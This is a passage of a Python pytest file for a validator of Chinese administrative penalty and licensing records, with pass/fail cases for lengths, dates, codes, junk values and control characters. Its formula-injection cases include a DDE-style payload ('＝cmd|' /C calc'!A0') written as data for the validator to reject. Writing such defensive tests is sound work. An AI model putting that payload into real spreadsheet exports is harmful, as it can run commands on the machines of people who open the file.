    ("cf", "CF-PH-001", {}, P),
    ("cf", "CF-PH-002", {"CF_SJLYDM": PLACEHOLDER}, F),
    ("cf", "CF-PH-002", {"CF_SJLYDM": "9" * 18}, F),
    ("cf", "CF-PH-002", {}, P),
    # -- CF junk and characters --
    ("cf", "CF-JUNK-001", {"CF_WSH": "无"}, F),
    ("cf", "CF-JUNK-001", {"CF_WSH": "〔〕"}, F),
    ("cf", "CF-JUNK-001", {"CF_WSH": "20240001"}, P),
    ("cf", "CF-JUNK-002", {"CF_WFXW": "/"}, F),
    ("cf", "CF-JUNK-002", {}, P),
    ("cf", "CF-JUNK-003", {"CF_SY": "……"}, F),
    ("cf", "CF-JUNK-003", {}, P),
    ("cf", "CF-JUNK-004", {"CF_YJ": "null"}, F),
    ("cf", "CF-JUNK-004", {}, P),
    ("cf", "CF-JUNK-005", {"CF_NR": "-"}, F),
    ("cf", "CF-JUNK-005", {}, P),
    ("cf", "CF-JUNK-006", {"CF_CFLB": "吊销许可证件", "CF_NR_ZKDX": "无"}, F),
    ("cf", "CF-JUNK-006", {"CF_NR_ZKDX": "营业执照"}, P),
    ("cf", "CF-JUNK-007", {"CF_CFJG": "12345"}, F),
    ("cf", "CF-JUNK-007", {}, P),
    ("cf", "CF-JUNK-008", {"CF_SJLY": "N/A"}, F),
    ("cf", "CF-JUNK-008", {}, P),
    ("cf", "CF-CHR-001", {"CF_WSH": "a\nb"}, F),
    ("cf", "CF-CHR-001", {}, P),
    ("cf", "CF-CHR-002", {"CF_WFXW": "a\rb"}, F),
    ("cf", "CF-CHR-002", {}, P),
    ("cf", "CF-CHR-003", {"CF_SY": "a\tb"}, F),
    ("cf", "CF-CHR-003", {"CF_SY": "第一\n第二"}, P),
    ("cf", "CF-CHR-004", {"CF_YJ": "a\nb"}, F),
    ("cf", "CF-CHR-004", {}, P),
    ("cf", "CF-CHR-005", {"CF_CFLB": "罚款\n警告"}, F),
    ("cf", "CF-CHR-005", {}, P),
    ("cf", "CF-CHR-006", {"CF_NR": "a\x1fb"}, F),
    ("cf", "CF-CHR-006", {"CF_NR": "罚款2000元。\n没收违法所得500元。"}, P),
    ("cf", "CF-CHR-007", {"CF_NR_ZKDX": "证\x1b"}, F),
    ("cf", "CF-CHR-007", {"CF_NR_ZKDX": "营业执照"}, P),
    ("cf", "CF-CHR-008", {"CF_CFJG": "局\x7f"}, F),
    ("cf", "CF-CHR-008", {}, P),
    ("cf", "CF-CHR-009", {"CF_SJLY": "局\u0085"}, F),
    ("cf", "CF-CHR-009", {}, P),
    ("cf", "CF-CHR-010", {"BZ": "a\r\nb"}, F),
    ("cf", "CF-CHR-010", {"BZ": "a\nb"}, P),
    ("cf", "CF-FW-001", {"CF_WSH": "榕市监罚〔２０２４〕12号"}, F),
    ("cf", "CF-FW-001", {}, P),
    ("cf", "CF-FW-001", {"CF_WSH": "榕市监罚〔二〇二四〕12号"}, P),
    ("cf", "CF-FML-001", {"CF_WSH": HYPERLINK}, F),
    ("cf", "CF-FML-001", {"CF_WSH": "－罚〔2025〕1号"}, F),
    ("cf", "CF-FML-001", {"CF_WSH": "罚〔2025〕1号=1"}, P),
    ("cf", "CF-FML-002", {"CF_WFXW": "=1+1"}, F),
    ("cf", "CF-FML-002", {}, P),
    ("cf", "CF-FML-003", {"CF_SY": "＝cmd|' /C calc'!A0"}, F),
    ("cf", "CF-FML-003", {}, P),
    ("cf", "CF-FML-004", {"CF_YJ": "+《产品质量法》"}, F),
    ("cf", "CF-FML-004", {}, P),
    ("cf", "CF-FML-005", {"CF_NR": "@SUM(1,2)"}, F),
    ("cf", "CF-FML-005", {}, P),
    ("cf", "CF-FML-006", {"CF_CFLB": "罚款;暂扣许可证件", "CF_NR_ZKDX": "-1+1"}, F),
    ("cf", "CF-FML-006", {"CF_CFLB": "罚款;暂扣许可证件", "CF_NR_ZKDX": "食品经营许可证JY1234"}, P),
    ("cf", "CF-FML-007", {"CF_CFJG": "＋福州市市场监督管理局"}, F),
    ("cf", "CF-FML-007", {}, P),
    ("cf", "CF-FML-008", {"CF_SJLY": "=A1"}, F),
    ("cf", "CF-FML-008", {}, P),
    ("cf", "CF-FML-009", {"BZ": "=1+1"}, F),
    ("cf", "CF-FML-009", {"BZ": "＠备注"}, F),
    ("cf", "CF-FML-009", {"BZ": "-无-"}, P),  # a leading dash is allowed in 备注
    ("cf", "CF-FML-009", {"BZ": "－见附件"}, P),
    # -- XK requirements (§1) --
    ("xk", "XK-REQ-001", {"XK_XKWS": None}, F),
    ("xk", "XK-REQ-001", {}, P),
    ("xk", "XK-REQ-002", {"XK_WSH": None}, F),
    ("xk", "XK-REQ-002", {}, P),
    ("xk", "XK-REQ-003", {"XK_XKLB": None}, F),
    ("xk", "XK-REQ-003", {}, P),
    ("xk", "XK-REQ-004", {"XK_NR": None}, F),
    ("xk", "XK-REQ-004", {}, P),
    ("xk", "XK-REQ-005", {"XK_JDRQ": None}, F),
    ("xk", "XK-REQ-005", {}, P),
    ("xk", "XK-REQ-006", {"XK_YXQZ": None}, F),
    ("xk", "XK-REQ-006", {}, P),
    ("xk", "XK-REQ-007", {"XK_YXQZI": None}, F),
    ("xk", "XK-REQ-007", {}, P),
    ("xk", "XK-REQ-008", {"XK_XKJG": None}, F),
    ("xk", "XK-REQ-008", {}, P),
    ("xk", "XK-REQ-009", {"XK_XKJGDM": None}, F),
    ("xk", "XK-REQ-009", {}, P),
    ("xk", "XK-REQ-010", {"XK_ZT": None}, F),
    ("xk", "XK-REQ-010", {}, P),
    ("xk", "XK-REQ-011", {"XK_LYDW": None}, F),
    ("xk", "XK-REQ-011", {}, P),
    ("xk", "XK-REQ-012", {"XK_LYDWDM": None}, F),
    ("xk", "XK-REQ-012", {}, P),
    # -- XK lengths --
    ("xk", "XK-LEN-001", {"XK_XKWS": "书" * 65}, F),
    ("xk", "XK-LEN-001", {"XK_XKWS": "书" * 64}, P),
    ("xk", "XK-LEN-002", {"XK_WSH": "号" * 65}, F),
    ("xk", "XK-LEN-002", {"XK_WSH": "号" * 64}, P),
    ("xk", "XK-LEN-003", {"XK_XKLB": "其他-" + "类" * 254}, F),
    ("xk", "XK-LEN-003", {"XK_XKLB": "其他-" + "类" * 253}, P),
    ("xk", "XK-LEN-004", {"XK_XKZS": "证" * 65}, F),
    ("xk", "XK-LEN-004", {"XK_XKZS": "证" * 64}, P),
    ("xk", "XK-LEN-005", {"XK_XKBH": "1" * 65}, F),
    ("xk", "XK-LEN-005", {"XK_XKBH": "1" * 64}, P),
    ("xk", "XK-LEN-006", {"XK_NR": "内" * 4001}, F),
    ("xk", "XK-LEN-006", {"XK_NR": "内" * 4000}, P),
    ("xk", "XK-LEN-007", {"XK_XKJG": "局" * 201}, F),
    ("xk", "XK-LEN-007", {"XK_XKJG": "局" * 200}, P),
    ("xk", "XK-LEN-008", {"XK_XKJGDM": AUTH_USCC + "0"}, F),
    ("xk", "XK-LEN-008", {}, P),
    ("xk", "XK-LEN-009", {"XK_ZT": "10"}, F),
    ("xk", "XK-LEN-009", {}, P),
    ("xk", "XK-LEN-010", {"XK_LYDW": "局" * 201}, F),
    ("xk", "XK-LEN-010", {}, P),
    ("xk", "XK-LEN-011", {"XK_LYDWDM": AUTH_USCC + "0"}, F),
    ("xk", "XK-LEN-011", {}, P),
    ("xk", "XK-LEN-012", {"BZ": "备" * 513}, F),
    ("xk", "XK-LEN-012", {"BZ": "备" * 512}, P),
    # -- XK enumerations --
    ("xk", "XK-ENUM-001", {"XK_XKLB": "其他"}, F),
    ("xk", "XK-ENUM-001", {"XK_XKLB": "01"}, F),
    ("xk", "XK-ENUM-001", {"XK_XKLB": "其他-"}, F),
    ("xk", "XK-ENUM-001", {"XK_XKLB": "其他-备案"}, P),
    ("xk", "XK-ENUM-001", {"XK_XKLB": "核准"}, P),
    ("xk", "XK-ENUM-002", {"XK_ZT": "0"}, F),
    ("xk", "XK-ENUM-002", {"XK_ZT": "有"}, F),
    ("xk", "XK-ENUM-002", {"XK_ZT": "2"}, P),
    # -- XK dates --
    ("xk", "XK-DATE-001", {"XK_JDRQ": "2023/02/30"}, F),
    ("xk", "XK-DATE-001", {}, P),
    ("xk", "XK-DATE-002", {"XK_YXQZ": "2023-02-29"}, F),
    ("xk", "XK-DATE-002", {}, P),
    ("xk", "XK-DATE-003", {"XK_YXQZI": "长期"}, F),
    ("xk", "XK-DATE-003", {"XK_YXQZI": "2099-12-31"}, P),
    ("xk", "XK-DATE-004", {"XK_YXQZ": "2100-01-01"}, F),
    ("xk", "XK-DATE-004", {}, P),
    ("xk", "XK-DATE-005", {"XK_YXQZI": "2100-01-01"}, F),
    ("xk", "XK-DATE-005", {"XK_YXQZI": "2099-12-31"}, P),
    ("xk", "XK-DATE-006", {"XK_JDRQ": "2026-07-01"}, F),
    ("xk", "XK-DATE-006", {"XK_JDRQ": "2026-06-30"}, P),
    ("xk", "XK-DATE-007", {"XK_JDRQ": "1999-12-31"}, F),
    ("xk", "XK-DATE-007", {}, P),
    ("xk", "XK-DATE-008", {"XK_YXQZ": "2024-03-15", "XK_YXQZI": "2024-03-14"}, F),
    ("xk", "XK-DATE-008", {"XK_YXQZI": "2024-03-15"}, P),
    ("xk", "XK-DATE-009", {"XK_YXQZ": "2024-03-01", "XK_YXQZI": "2024-03-10"}, F),
    ("xk", "XK-DATE-009", {}, P),
    ("xk", "XK-DATE-010", {"XK_YXQZ": "2024-03-14"}, F),
    ("xk", "XK-DATE-010", {"XK_YXQZ": "2024-03-16"}, P),
    # -- XK authority codes --
    ("xk", "XK-USCC-001", {"XK_XKJGDM": "11230500001755309"}, F),
    ("xk", "XK-USCC-001", {}, P),
    ("xk", "XK-USCC-002", {"XK_XKJGDM": "11230500001755309E"}, F),
    ("xk", "XK-USCC-002", {}, P),
    ("xk", "XK-USCC-003", {"XK_XKJGDM": ORG_USCC}, F),
    ("xk", "XK-USCC-003", {"XK_XKJGDM": "12350100MB1234567X"}, P),
    ("xk", "XK-USCC-004", {"XK_LYDWDM": "1123050000175530I"}, F),
    ("xk", "XK-USCC-004", {}, P),
    ("xk", "XK-USCC-005", {"XK_LYDWDM": "11230500001755309E"}, F),
    ("xk", "XK-USCC-005", {}, P),
    ("xk", "XK-PH-001", {"XK_XKJGDM": PLACEHOLDER}, F),
    ("xk", "XK-PH-001", {}, P),
    ("xk", "XK-PH-002", {"XK_LYDWDM": PLACEHOLDER}, F),
    ("xk", "XK-PH-002", {}, P),
    # -- XK junk and characters --
    ("xk", "XK-JUNK-001", {"XK_XKWS": "无"}, F),
    ("xk", "XK-JUNK-001", {}, P),
    ("xk", "XK-JUNK-002", {"XK_WSH": "--"}, F),
    ("xk", "XK-JUNK-002", {"XK_WSH": "JY13501000012345"}, P),
    ("xk", "XK-JUNK-003", {"XK_NR": "暂无"}, F),
    ("xk", "XK-JUNK-003", {}, P),
    ("xk", "XK-JUNK-004", {"XK_XKJG": "0"}, F),
    ("xk", "XK-JUNK-004", {}, P),
    ("xk", "XK-JUNK-005", {"XK_LYDW": "空"}, F),
    ("xk", "XK-JUNK-005", {}, P),
    ("xk", "XK-CHR-001", {"XK_XKWS": "a\nb"}, F),
    ("xk", "XK-CHR-001", {}, P),
    ("xk", "XK-CHR-002", {"XK_WSH": "a\x00"}, F),
    ("xk", "XK-CHR-002", {}, P),
    ("xk", "XK-CHR-003", {"XK_XKLB": "其他-备\n案"}, F),
    ("xk", "XK-CHR-003", {}, P),
    ("xk", "XK-CHR-004", {"XK_XKZS": "证\t"}, F),
    ("xk", "XK-CHR-004", {}, P),
    ("xk", "XK-CHR-005", {"XK_XKBH": "J\x08Y"}, F),
    ("xk", "XK-CHR-005", {}, P),
    ("xk", "XK-CHR-006", {"XK_NR": "a\x0bb"}, F),
    ("xk", "XK-CHR-006", {"XK_NR": "第一项\n第二项"}, P),
    ("xk", "XK-CHR-007", {"XK_XKJG": "局\n"}, F),
    ("xk", "XK-CHR-007", {}, P),
    ("xk", "XK-CHR-008", {"XK_LYDW": "局\ufffd"}, F),
    ("xk", "XK-CHR-008", {}, P),
    ("xk", "XK-CHR-009", {"BZ": "备注\x02"}, F),
    ("xk", "XK-CHR-009", {"BZ": "备注\n第二行"}, P),
    ("xk", "XK-FW-001", {"XK_WSH": "ＪＹ１２３"}, F),
    ("xk", "XK-FW-001", {}, P),
    ("xk", "XK-FW-002", {"XK_XKBH": "ＪＹ１３５０１"}, F),
    ("xk", "XK-FW-002", {}, P),
    ("xk", "XK-WS-001", {"XK_XKWS": "关于某公司的批复(发改财金〔2015〕123号)"}, F),
    ("xk", "XK-WS-001", {"XK_XKWS": "关于某公司（福州）的批复"}, P),
    ("xk", "XK-FML-001", {"XK_XKWS": "=1+1"}, F),
    ("xk", "XK-FML-001", {}, P),
    ("xk", "XK-FML-002", {"XK_WSH": HYPERLINK}, F),
    ("xk", "XK-FML-002", {"XK_WSH": "榕食许〔2024〕88-1号"}, P),
    ("xk", "XK-FML-003", {"XK_XKZS": "@食品经营许可证"}, F),
    ("xk", "XK-FML-003", {}, P),
    ("xk", "XK-FML-004", {"XK_XKBH": "-JY13501000012345"}, F),
    ("xk", "XK-FML-004", {}, P),
    ("xk", "XK-FML-005", {"XK_NR": "＋准予许可"}, F),
    ("xk", "XK-FML-005", {}, P),
    ("xk", "XK-FML-006", {"XK_XKJG": "－福州市市场监督管理局"}, F),
    ("xk", "XK-FML-006", {}, P),
    ("xk", "XK-FML-007", {"XK_LYDW": "＝福州市市场监督管理局"}, F),
    ("xk", "XK-FML-007", {}, P),
    ("xk", "XK-FML-008", {"BZ": "+86"}, F),
    ("xk", "XK-FML-008", {"BZ": "-"}, P),
    # -- extension fields beyond the 2019 template (issue 17 item 11): length and characters only --
    ("cf", "CF-LEN-013", {"CF_AJMC": "案" * 501}, F),
    ("cf", "CF-LEN-013", {"CF_AJMC": "案" * 500}, P),
    ("cf", "CF-LEN-014", {"CF_JJQD": "复" * 1001}, F),
    ("cf", "CF-LEN-014", {"CF_JJQD": "复" * 1000}, P),
    ("cf", "CF-CHR-011", {"CF_AJMC": "某某案\n续"}, F),
    ("cf", "CF-CHR-011", {"CF_AJMC": "某某销售不合格产品案"}, P),
    ("cf", "CF-CHR-012", {"CF_JJQD": "可申请复议\x02"}, F),
    ("cf", "CF-CHR-012", {"CF_JJQD": "可申请复议，\n或提起诉讼"}, P),
    ("cf", "CF-FML-010", {"CF_AJMC": "=HYPERLINK(1)"}, F),
    ("cf", "CF-FML-010", {"CF_AJMC": "某某案"}, P),
    ("cf", "CF-FML-011", {"CF_JJQD": "@复议"}, F),
    ("cf", "CF-FML-011", {"CF_JJQD": "可申请复议"}, P),
    ("xk", "XK-LEN-013", {"XK_XMMC": "项" * 201}, F),
    ("xk", "XK-LEN-013", {"XK_XMMC": "项" * 200}, P),
    ("xk", "XK-LEN-014", {"XK_SDYJ": "依" * 2049}, F),
    ("xk", "XK-LEN-014", {"XK_SDYJ": "依" * 2048}, P),
    ("xk", "XK-CHR-010", {"XK_XMMC": "食品经营\t许可"}, F),
    ("xk", "XK-CHR-010", {"XK_XMMC": "食品经营许可"}, P),
    ("xk", "XK-CHR-011", {"XK_SDYJ": "《食品安全法》\n第三十五条"}, F),
    ("xk", "XK-CHR-011", {"XK_SDYJ": "《食品安全法》第三十五条"}, P),
    ("xk", "XK-FML-009", {"XK_XMMC": "+食品经营许可"}, F),
    ("xk", "XK-FML-009", {"XK_XMMC": "食品经营许可"}, P),
    ("xk", "XK-FML-010", {"XK_SDYJ": "=1"}, F),
    ("xk", "XK-FML-010", {"XK_SDYJ": "《行政许可法》"}, P),
]


def _expand(cases: list[Case]) -> list[tuple[str, str, dict[str, Any], bool]]:
    out = []
    for ds, rule, overrides, fails in cases:
        for d in ("cf", "xk") if ds == "both" else (ds,):
            out.append((d, rule, overrides, fails))
    return out


EXPANDED = _expand(CASES)


@pytest.mark.parametrize(
    ("ds", "rule", "overrides", "fails"),
    EXPANDED,
    ids=[f"{d}-{r}-{'fail' if f else 'pass'}-{k}" for k, (d, r, _, f) in enumerate(EXPANDED)],
)
def test_rule_case(ds: str, rule: str, overrides: dict[str, Any], fails: bool) -> None:
    verdicts = check(ds, [overrides])
    failing = {x.rule for x in verdicts.issues(0)}
    assert (rule in failing) is fails, f"{rule} {'did not fail' if fails else 'failed'}; row failed {sorted(failing)}"


def test_batched_cases_agree_with_single_rows(ds: str) -> None:
    """Evaluating all cases in one batch gives the same verdicts as one row at a time.

    Guards the per-distinct-value paths of the engine (a batch makes columns repeat values).
    """
    mine = [(r, o, f) for d, r, o, f in EXPANDED if d == ds]
    verdicts = check(ds, [o for _, o, _ in mine])
    for k, (rule, _, fails) in enumerate(mine):
        assert (rule in {x.rule for x in verdicts.issues(k)}) is fails, (k, rule)


def test_every_rule_has_cases() -> None:
    """Each rule of both catalogues (also the disabled ones) has a failing and a passing example."""
    for ds in ("cf", "xk"):
        ids = {r.id for r in catalogue(ds, include_disabled=True)}
        failing = {r for d, r, _, f in EXPANDED if d == ds and f} | EXTRA_COVERED[ds]
        passing = {r for d, r, _, f in EXPANDED if d == ds and not f} | EXTRA_COVERED[ds]
        assert not ids - failing, f"{ds}: rules without a failing example: {sorted(ids - failing)}"
        assert not ids - passing, f"{ds}: rules without a passing example: {sorted(ids - passing)}"


#: Rules covered by the dedicated tests below instead of the table.
EXTRA_COVERED = {"cf": {"CF-DUP-001"}, "xk": {"XK-DUP-001", "XK-DATE-011"}}


def test_clean_records_pass_every_rule(ds: str) -> None:
    wsh = f"{ds.upper()}_WSH"
    verdicts = check(ds, [{wsh: f"文号{k}", **row} for k, row in enumerate([{}, o(), i(), n()])])
    for k in range(4):
        assert verdicts.issues(k) == [], (k, verdicts.issues(k))


def test_duplicates_within_a_batch(ds: str) -> None:
    rule = f"{ds.upper()}-DUP-001"
    other = {f"{ds.upper()}_WSH": "另一个文号"}
    verdicts = check(ds, [{}, other, {}, {}])
    assert [rule in {x.rule for x in verdicts.issues(k)} for k in range(4)] == [False, False, True, True]
    assert verdicts.rule_failures[rule] == 2


def test_expired_licence_rule_is_off_by_default_and_can_be_enabled() -> None:
    row = {"XK_YXQZI": "2026-06-29"}
    assert "XK-DATE-011" not in check("xk", [row]).rule_failures
    settings = RuleSettings(rules={"XK-DATE-011": RuleOverride(enabled=True)})
    on = check("xk", [row, {"XK_WSH": "另一个文号"}], settings=settings)
    assert [x.rule for x in on.warnings(0)] == ["XK-DATE-011"] and on.warnings(1) == []
    assert not on.has_error[0]


def test_today_defaults_to_the_current_date() -> None:
    """Without ``today``, "not in the future" means the date of the run in Shanghai: a decision dated
    tomorrow (or in 2999) fails, one dated today passes (a fixed default such as the tests' TODAY would fail one)."""
    import datetime as dt

    from exp_rows import frame

    from expectations import validate
    from national.clock import today_shanghai

    now = today_shanghai()
    rows: list[Mapping[str, Any]] = [
        {
            "CF_WSH": f"文号{k}",
            "CF_JDRQ": d.isoformat(),
            "CF_YXQ": d.isoformat(),
            "CF_GSJZQ": (d + dt.timedelta(days=30)).isoformat(),
        }
        for k, d in enumerate([now + dt.timedelta(days=1), now, now - dt.timedelta(days=1), dt.date(2999, 1, 1)])
    ]
    verdicts = validate(frame("cf", rows), "cf")
    if today_shanghai() != now:  # midnight passed during the test: the default moved with it
        pytest.skip("the date changed while the test ran")
    assert verdicts.failing_rows("CF-DATE-006").tolist() == [0, 3]
